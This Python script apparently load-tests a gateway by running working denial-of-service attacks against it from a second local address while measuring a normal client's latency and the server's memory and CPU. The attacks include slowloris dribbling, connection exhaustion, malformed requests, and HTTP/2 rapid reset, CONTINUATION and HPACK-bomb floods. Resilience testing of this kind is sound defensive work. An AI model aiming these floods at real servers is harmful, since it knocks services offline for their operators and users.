"""Abuses the gateway from one address while a polite client works from another.

abuse.py JOB: a JSON file {"address", "port", "authority", "host", "pid", "abuse", "seconds"}, and where they differ from the
tests' "holders" (connections at once) and "large" (the path of a large answer). Prints one JSON object: {"polite", "lost", "p50_ms", "p99_ms",
"quiet_p99_ms", "rss_before", "rss_peak", "cpu_seconds", "seconds", "attempts", "refused"}. Bytes for memory;
`cpu_seconds` is what the gateway used meanwhile, `quiet_p99_ms` the polite client's in the second before.
"""

import json
import os
import random
import socket
import ssl
import sys
import threading
import time

job = json.load(open(sys.argv[1]))
ABUSER, POLITE = "127.0.0.2", "127.0.0.1"
ended = threading.Event()
counts = {"attempts": 0, "refused": 0}


def context(protocol="http/1.1"):
    made = ssl.create_default_context(cafile=job["authority"])
    made.set_alpn_protocols([protocol])
    return made


def plain(source, timeout=10):
    return socket.create_connection((job["address"], job["port"]), timeout=timeout, source_address=(source, 0))


def secure(source, timeout=10, trust=None):
    connection = plain(source, timeout)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return (trust or trusting).wrap_socket(connection, server_hostname=job["host"])


trusting, trusting_h2 = context(), context("h2")
HEAD = ("Host: %s\r\n" % job["host"]).encode()


def attempt(body):
    counts["attempts"] += 1
    try:
        return body()
    except (OSError, ValueError):
        counts["refused"] += 1
        return None


def hold(number, begin, go_on=None, every=0.1):
    """So many connections at once, each begun and then continued until the end; who is cut begins anew."""
    open_now = []
    while not ended.is_set():
        open_now = [one for one in open_now if one is not None]
        for _ in range(min(32, number - len(open_now))):
            open_now.append(attempt(begin))
        for index, one in enumerate(open_now):
            if one is None or go_on is None:
                continue
            try:
                go_on(one)
            except (OSError, ValueError):
                one.close()
                open_now[index] = None
        ended.wait(every)
    for one in open_now:
        if one is not None:
            one.close()


def silent():
    """Connections that say nothing at all, far beyond what one address may have."""
    hold(2000, lambda: plain(ABUSER), None, 0.01)


def exhaust():
    """More silent connections than the process may have files; the polite client is asked to keep to its own."""
    hold(400, lambda: plain(ABUSER, 2), None, 0.01)


def handshakes():
    """As many handshakes as four threads can begin; half of them end in the middle."""
    def many():
        while not ended.is_set():
            if random.randrange(2):
                attempt(lambda: secure(ABUSER, 2).close())
            else:
                def half():
                    one = plain(ABUSER, 2)
                    one.sendall(bytes.fromhex("1603010200010001fc0303") + os.urandom(60))
                    one.close()
                attempt(half)
    run([many] * 4)


def garbage():
    """Bytes that are no TLS."""
    def one():
        connection = plain(ABUSER, 2)
        connection.sendall(os.urandom(4096))
        connection.close()
    while not ended.is_set():
        attempt(one)


def head_dribble():
    def begin():
        one = secure(ABUSER, 2)
        one.sendall(b"GET /slow HTTP/1.1\r\n" + HEAD + b"X: ")
        return one
    hold(150, begin, lambda one: one.sendall(b"x"))


def body_dribble():
    def begin():
        one = secure(ABUSER, 2)
        one.sendall(b"POST /slow HTTP/1.1\r\n" + HEAD + b"Content-Length: 100000\r\n\r\n")
        return one
    hold(100, begin, lambda one: one.sendall(b"x"))


def never_reading():
    """Large answers that nobody fetches."""
    def begin():
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(2)
        connection.bind((ABUSER, 0))
        connection.connect((job["address"], job["port"]))
        one = trusting.wrap_socket(connection, server_hostname=job["host"])
        if "large" in job:
            one.sendall(b"GET " + job["large"].encode() + b" HTTP/1.1\r\n" + HEAD + b"\r\n")
        else:
            one.sendall(b"POST /large HTTP/1.1\r\n" + HEAD + b"Content-Length: 400000\r\n\r\n" + b"x" * 400000)
        return one
    hold(job.get("holders", 60), begin)


def large_heads():
    """Heads at the bound, many in a row, and each one byte too many at its end."""
    def one():
        connection = secure(ABUSER, 2)
        try:
            for _ in range(20):
                connection.sendall(b"GET / HTTP/1.1\r\n" + HEAD + b"X: " + b"x" * 32000 + b"\r\n\r\n")
            connection.sendall(b"GET / HTTP/1.1\r\n" + HEAD + b"X: " + b"x" * 40000)
            connection.settimeout(2)
            while connection.recv(65536):
                pass
        finally:
            connection.close()
    run([lambda: [attempt(one) for _ in iter(ended.is_set, True)]] * 2)


def malformed():
    """Requests that are refused, as fast as they go."""
    wrong = [b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", b"GET /../x HTTP/1.1\r\n" + HEAD + b"\r\n", b"\r\n\r\n\r\n", b"\x00" * 100,
             b"POST / HTTP/1.1\r\n" + HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]
    def one():
        connection = secure(ABUSER, 2)
        connection.sendall(random.choice(wrong))
        while connection.recv(65536):
            pass
        connection.close()
    run([lambda: [attempt(one) for _ in iter(ended.is_set, True)]] * 3)


def forged_cookies():
    """Sessions that are none: each must die without work of the control plane."""
    def one():
        connection = secure(ABUSER, 2)
        for _ in range(200):
            value = os.urandom(42).hex()[:56].encode()
            connection.sendall(b"GET / HTTP/1.1\r\n" + HEAD + b"Cookie: __Host-gatepost=" + value + b"\r\n\r\n")
            if not connection.recv(65536):
                break
        connection.close()
    run([lambda: [attempt(one) for _ in iter(ended.is_set, True)]] * 2)


# HTTP/2 (RFC 9113). Field lines go out as literals without a name from the tables (RFC 7541 section 6.2.2).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    return b"".join([b"\0", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()])


def request(path, method="GET"):
    pairs = [(":method", method), (":scheme", "https"), (":authority", job["host"]), (":path", path)]
    return b"".join(literal(*pair) for pair in pairs)


def multiplexed(settings=b"", timeout=2):
    one = secure(ABUSER, timeout, trusting_h2)
    one.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return one


def floods(make):
    """What `make` gives, again and again on each of two connections, without reading an answer."""
    def one():
        connection = multiplexed()
        try:
            number = 0
            while not ended.is_set():
                connection.sendall(make(number))
                number += 1
        finally:
            connection.close()
    run([lambda: [attempt(one) for _ in iter(ended.is_set, True)]] * 2)


def h2_rapid_reset():
    """Requests that are taken back at once (CVE-2023-44487)."""
    def make(number):
        streams = range(200 * number + 1, 200 * number + 201, 2)
        return b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, request("/slow"))
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in streams)
    floods(make)


def h2_continuation():
    """A head that never ends (CVE-2024-27983 and its kin)."""
    floods(lambda number: (frame(HEADERS, END_STREAM, 1, request("/")) if number == 0 else b"")
           + frame(CONTINUATION, 0, 1, literal("x-more", "y" * 100) * 20) * 20)


def h2_hpack_bomb():
    """One large line in the table, and heads that name it thousands of times."""
    def make(number):
        if number == 0:
            # RFC 7541 section 6.2.1: kept in the table, where it is entry 62.
            kept = b"\x40\x01x" + b"\x7f" + (3000 - 127 & 0x7f | 0x80).to_bytes(1, "big") \
                + (3000 - 127 >> 7).to_bytes(1, "big") + b"y" * 3000
            return frame(HEADERS, END_STREAM | END_HEADERS, 1, request("/") + kept)
        return frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request("/") + b"\xbe" * 15000)
    floods(make)


def h2_pings():
    floods(lambda _: frame(PING, 0, 0, b"12345678") * 500)


def h2_settings():
    floods(lambda _: frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 500)


def h2_zero_window():
    """A hundred answers on each connection, none of which may be sent."""
    def begin():
        one = multiplexed(b"\0\x04\0\0\0\0")
        for stream in range(1, 201, 2):
            one.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, request(job.get("large", "/large"))))
        return one
    hold(job.get("holders", 30), begin)


def h2_data_dribble():
    """A hundred uploads on each connection, a byte at a time."""
    def begin():
        one = multiplexed()
        for stream in range(1, 201, 2):
            one.sendall(frame(HEADERS, END_HEADERS, stream, request("/slow", "POST")))
        return one
    hold(20, begin, lambda one: one.sendall(b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 201, 2))))


def h2_stalled_uploads():
    """A hundred uploads on each connection, as much of each as the window allows, and not a byte more."""
    def begin():
        one = multiplexed()
        for stream in range(1, 201, 2):
            one.sendall(frame(HEADERS, END_HEADERS, stream, request("/slow", "POST")))
        one.sendall(b"".join(frame(DATA, 0, 1 + 2 * (number % 100), b"x" * 600) for number in range(100)))
        return one
    hold(job.get("holders", 30), begin)


def run(bodies):
    threads = [threading.Thread(target=body, daemon=True) for body in bodies]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(job["seconds"] + 15)


def memory():
    for line in open("/proc/%d/status" % job["pid"]):
        if line.startswith("VmRSS"):
            return int(line.split()[1]) * 1024


def processor():
    values = open("/proc/%d/stat" % job["pid"]).read().rsplit(")", 1)[1].split()
    return (int(values[11]) + int(values[12])) / os.sysconf("SC_CLK_TCK")


def ask(connection):
    connection.sendall(b"GET /polite HTTP/1.1\r\n" + HEAD + b"\r\n")
    answer = b""
    while b"\r\n\r\n" not in answer:
        more = connection.recv(65536)
        if not more:
            raise ConnectionError("closed")
        answer += more
    head, _, body = answer.partition(b"\r\n\r\n")
    length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
    while len(body) < length:
        more = connection.recv(65536)
        if not more:
            raise ConnectionError("closed in the body")
        body += more
    if not head.startswith(b"HTTP/1.1 200"):
        raise ConnectionError(head[:80].decode("latin-1"))


def polite(kept, until, latencies, lost):
    """Requests one after the other, every tenth on a connection of its own."""
    number = 0
    while time.monotonic() < until:
        begun = time.monotonic()
        try:
            if number % 10 == 9 and job["abuse"] != "exhaust":
                with secure(POLITE) as own:
                    ask(own)
            else:
                ask(kept)
        except (OSError, ValueError, IndexError) as error:
            lost.append("request %d: %r" % (number, error))
            if len(lost) > 20:
                return
            if number % 10 != 9:
                kept = secure(POLITE)
        latencies.append(time.monotonic() - begun)
        number += 1
        time.sleep(0.005)


def main():
    kept = secure(POLITE)
    quiet = []
    polite(kept, time.monotonic() + 1, quiet, [])
    quiet.sort()
    before, used = memory(), processor()
    abuser = threading.Thread(target=globals()[job["abuse"]], daemon=True)
    peak, latencies, lost = [before], [], []

    def watch():
        while not ended.is_set():
            peak.append(memory())
            time.sleep(0.05)

    threading.Thread(target=watch, daemon=True).start()
    abuser.start()
    begun = time.monotonic()
    # The polite client is a process of its own: Python's threads would share one core with the abuse.
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        polite(kept, begun + job["seconds"], latencies, lost)
        os.write(writer, json.dumps([latencies, lost]).encode())
        os._exit(0)
    os.close(writer)
    latencies, lost = json.loads(open(reader).read())
    os.waitpid(child, 0)
    elapsed = time.monotonic() - begun
    spent = processor() - used
    ended.set()
    abuser.join(20)
    latencies.sort()
    json.dump({
        "polite": len(latencies), "lost": lost,
        "p50_ms": round(latencies[len(latencies) // 2] * 1000, 1),
        "p99_ms": round(latencies[int(len(latencies) * 0.99)] * 1000, 1),
        "quiet_p99_ms": round(quiet[int(len(quiet) * 0.99)] * 1000, 1),
        "rss_before": before, "rss_peak": max(peak), "cpu_seconds": round(spent, 2), "seconds": round(elapsed, 2),
    } | counts, sys.stdout)


if __name__ == "__main__":
    main()
